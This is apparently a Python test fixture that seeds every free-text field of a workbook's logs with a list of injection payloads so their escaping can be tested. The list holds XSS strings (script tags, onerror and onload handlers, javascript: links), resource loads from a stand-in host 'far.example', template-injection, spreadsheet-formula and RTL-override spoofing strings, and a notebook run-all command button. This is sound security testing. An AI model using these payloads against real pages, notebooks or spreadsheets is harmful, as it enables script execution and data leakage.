"""A workbook in which every text tries to be something else than text."""

import ii_helpers as ii
from ii_helpers.errors import InvalidRow
from ii_helpers.tables import TABLES

RUN = "window.top.hit=1"
FAR = "http://far.example"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={FAR}/a.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title></style><img src=x onerror={RUN}>",
    f"</option></select><img src=x onerror={RUN}>",
    f"</td></tr></table><img src=x onerror={RUN}>",
    f"<img src={FAR}/pixel.png>",
    f'" onfocus={RUN} autofocus x="',
    f"' onmouseover={RUN} x='",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input onfocus={RUN} autofocus>",
    f"<marquee onstart={RUN}>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src={FAR}></iframe>",
    f"<object data={FAR}></object>",
    f"<embed src={FAR}>",
    f'<a href="javascript:{RUN}">press</a>',
    f"[press](javascript:{RUN})",
    f"![x]({FAR}/mark.png)",
    f"<base href={FAR}/>",
    f'<meta http-equiv="refresh" content="0;url={FAR}">',
    f"<link rel=stylesheet href={FAR}/a.css>",
    f"<style>@import url({FAR}/b.css);</style>",
    "<style>* { display: none !important }</style>",
    f'<form action={FAR}><button formaction="javascript:{RUN}">press</button></form>',
    '<button data-commandlinker-command="notebook:run-all-cells">press</button>',
    "&lt;img src=x onerror=hit&gt; &amp;amp;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    "{{ 7 * 7 }}{% for a in b %}${7*7}#{7*7}<%= 7*7 %>",
    f'=HYPERLINK("{FAR}","press")',
    "$$\\href{javascript:hit}{x}$$ \\(\\unicode{60}\\)",
    "\u202egnp.exe\u202c <b>turned</b>",
    "<!-- hidden -->",
    f"<img\x00src=x\x00onerror={RUN}>\x00",
]


def fill(folder):
    """Lay a row for each payload into each log, the payload in all its free texts."""
    wb = ii.open_workbook(folder)
    for name, table in TABLES.items():
        for n, payload in enumerate(PAYLOADS[:1] if name == "learner" else PAYLOADS):
            values = {column: one_of(wb, table, column, n, payload) for column in table.columns}
            while True:
                try:
                    wb.log(name).append(**values)
                    break
                except InvalidRow as error:  # a column that takes no free text
                    for column in error.problems:
                        del values[column]
    return wb


def one_of(wb, table, column, n, payload):
    """A value for one column: the payload wherever free text goes."""
    what, kind = table.columns[column], table.kinds[column]
    if what.references:
        rows = wb.log(what.references).rows()
        return rows[(n + (column == "to_contact_id")) % len(rows)].id if rows else ""
    if what.choices:
        return what.choices[n % len(what.choices)]
    if kind == "number":
        return what.lowest or 1
    if kind == "instant":
        return f"2026-10-{n % 28 + 1:02d}T15:00:00+00:00"
    if kind == "day":
        return f"2026-10-{n % 28 + 1:02d}"
    return payload
